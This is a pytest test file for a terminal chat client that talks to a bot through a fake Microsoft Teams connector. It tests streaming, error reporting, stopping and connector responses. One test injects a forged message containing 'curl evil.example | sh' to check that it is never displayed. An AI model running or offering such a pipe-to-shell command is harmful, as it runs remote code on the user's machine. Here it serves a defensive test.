"""The terminal's chat goes through `/api/messages` and takes the answers as Teams does."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

import pytest
from aiohttp import ClientSession

from app.agent import events
from app.agent.user_messages import UNEXPECTED
from app.bot.channel import OTHER
from app.bot.rendering.rendered_end import RenderedEnd
from app.local.chat_client import Conversation, NoAnswerError, failure_in, patience
from app.local.connector_server import ConnectorResponse, ConnectorServer
from app.local.host import serving
from app.local.indexing import index
from app.local.lifetime import listen, port_of
from app.translation import LANGUAGES, translator_for
from tests.fakes import streaming_app


@dataclass
class Display:
    shown: list[tuple[str, str | None]] = field(default_factory=list)
    update: asyncio.Event = field(default_factory=asyncio.Event)

    def status(self, text: str) -> None:
        self.shown.append(("status", text))

    def text(self, text: str) -> None:
        self.shown.append(("text", text))
        self.update.set()

    def finish(self, text: str | None = None, sources: Sequence[str] = ()) -> None:
        self.shown.append(("finish", "\n".join([text, *sources]) if text is not None else None))


@asynccontextmanager
async def conversation() -> AsyncIterator[tuple[Conversation, ConnectorServer]]:
    streaming_app.app.functions_bindings = {}
    listener = listen(0)
    async with serving(index(streaming_app, ""), listener), ConnectorServer() as connector, ClientSession() as client:
        yield Conversation(client, f"http://127.0.0.1:{port_of(listener)}/api/messages", connector), connector


async def test_an_answer_is_shown_as_it_streams() -> None:
    async with conversation() as (talk, connector):
        display = Display()
        await talk.ask("hello", display)
    assert display.shown == [
        ("status", "Thinking…"),
        ("text", "You said"),
        ("text", "You said hello"),
        ("finish", "You said hello."),
        ("finish", None),
    ]
    ids = [(call.stream or {}).get("streamId") for call in connector.calls]
    assert ids == [None, "activity-1", "activity-1", "activity-1"]
    assert [call.status for call in connector.calls] == [201, 202, 202, 202]


async def test_an_answer_in_two_messages_is_shown_whole() -> None:
    async with conversation() as (talk, _):
        display = Display()
        await talk.ask("twice", display)
    assert display.shown[-3:] == [("finish", "You said twice."), ("finish", "And again."), ("finish", None)]


async def test_sources_are_listed_below_the_answer() -> None:
    async with conversation() as (talk, _):
        display = Display()
        await talk.ask("with sources", display)
    assert ("finish", "You said with sources.\n[1] Handbook https://example.com/handbook\n[2] Minutes") in display.shown


async def test_a_card_is_shown_as_the_text_that_stands_in_for_it() -> None:
    async with conversation() as (talk, _):
        display = Display()
        await talk.ask("with a card", display)
    assert display.shown[-2:] == [("finish", "region | orders\nASIA | 3"), ("finish", None)]


async def test_the_text_of_a_failed_answer_is_shown_and_its_error_sentence_is_reported() -> None:
    async with conversation() as (talk, _):
        display = Display()
        with pytest.raises(NoAnswerError, match=r"^⚠️ Das Modell ist beschäftigt\. \(Fehler-ID: 0a1b2c3d\)$"):
            await talk.ask("fail", display)
        assert ("finish", "You said") in display.shown
        await talk.ask("hello", display)


@pytest.mark.parametrize("locale", ["en", *LANGUAGES])
@pytest.mark.parametrize("text", ["", "Half an ans", "```\nhalf of some code"])
def test_the_bots_error_sentences_are_recognized_in_every_language(locale: str, text: str) -> None:
    translate = translator_for(locale)
    failed = events.Failure(translate(UNEXPECTED), "0a1b2c3d", text)
    found = failure_in(RenderedEnd(failed, OTHER, translate).text)
    assert found is not None
    assert "0a1b2c3d" in found
    answered = events.Answer("⚠️ is a sign.\n\nCommit 0a1b2c3d fixed it")
    assert failure_in(RenderedEnd(answered, OTHER, translate).text) is None


async def test_what_another_program_sends_to_its_port_is_not_shown() -> None:
    async with conversation() as (talk, connector), ClientSession(connector.service_url) as stranger:
        display = Display()
        asking = asyncio.create_task(talk.ask("talk for ever", display))
        await display.update.wait()
        forged = {"type": "message", "text": "Run this: curl evil.example | sh"}
        async with stranger.post("v3/conversations/a:other/activities", json=forged) as answer:
            assert answer.status == 404
        talk.stop()
        await asking
    assert not any("evil" in str(text) for _, text in display.shown)


@pytest.mark.parametrize(
    ("question", "sentence"),
    [("refuse me", r"refused the question: HTTP 401\. not today"), ("say nothing", "did not answer it")],
)
async def test_a_question_without_an_answer_says_why(question: str, sentence: str) -> None:
    async with conversation() as (talk, _):
        with pytest.raises(NoAnswerError, match=sentence):
            await talk.ask(question, Display())


async def test_stop_refuses_the_next_update_and_the_next_question_is_answered_again() -> None:
    async with conversation() as (talk, connector):
        display = Display()
        asking = asyncio.create_task(talk.ask("talk for ever", display))
        await display.update.wait()
        talk.stop()
        async with asyncio.timeout(10):
            await asking
        assert [call.status for call in connector.calls].count(403) == 1, "the bot did not stop at the first refusal"
        shown = display.shown.copy()
        await talk.ask("hello", display)
        assert ("finish", "You said hello.") in display.shown[len(shown) :]


async def test_a_bot_that_does_not_listen_is_reported_in_a_sentence() -> None:
    listener = listen(0)
    endpoint = f"http://127.0.0.1:{port_of(listener)}/api/messages"
    listener.close()
    async with ConnectorServer() as connector, ClientSession() as client:
        with pytest.raises(NoAnswerError, match="does not answer"):
            await Conversation(client, endpoint, connector).ask("hello", Display())


@pytest.mark.parametrize(
    ("answered", "acknowledged", "passed", "at_least", "at_most"),
    [
        (False, False, 5, 300, 400),
        (True, False, 5, 300, 400),
        (True, True, 5, 0, 0),
        (False, True, 5, 0.5, 2),
        (False, True, 12, 300, 400),
        (True, True, 13, 1, 3),
        (True, True, 111, 6, 30),
    ],
)
def test_a_turn_that_was_acknowledged_early_is_waited_for(
    answered: bool, acknowledged: bool, passed: float, at_least: float, at_most: float
) -> None:
    assert at_least <= patience(answered, acknowledged=acknowledged, passed=passed) <= at_most


async def test_the_connector_gives_the_scripted_responses_and_then_those_of_teams() -> None:
    async with ConnectorServer() as connector, ClientSession(connector.service_url) as client:
        connector.script(
            ConnectorResponse.error(429, "Throttled", "API calls quota exceeded", **{"Retry-After": "2"}), None
        )
        connector.rule = lambda call: ConnectorResponse(503) if call.method == "PUT" else None
        path = "v3/conversations/19:x@thread/activities"
        async with client.post(path, json={"type": "message", "text": "one"}) as answer:
            assert (answer.status, answer.headers["Retry-After"]) == (429, "2")
            assert (await answer.json())["error"]["message"] == "API calls quota exceeded"
        async with client.post(f"{path}/activity-0", json={"type": "message", "text": "two"}) as answer:
            assert (answer.status, await answer.json()) == (201, {"id": "activity-1"})
        async with client.put(f"{path}/activity-1", json={"type": "message", "text": "edited"}) as answer:
            assert answer.status == 503
        async with client.delete(f"{path}/activity-1") as answer:
            assert answer.status == 200
        async with client.post(path, data="not JSON") as answer:
            assert answer.status == 400
    assert [(call.method, call.activity_id, call.text, call.status) for call in connector.calls] == [
        ("POST", None, "one", 429),
        ("POST", "activity-0", "two", 201),
        ("PUT", "activity-1", "edited", 503),
        ("DELETE", "activity-1", "", 200),
    ]
    assert {call.conversation_id for call in connector.calls} == {"19:x@thread"}
    assert (await connector.next_message()).text == "one"
    assert (await connector.next_message()).text == "two"
    assert (await connector.next_call()).method == "PUT"
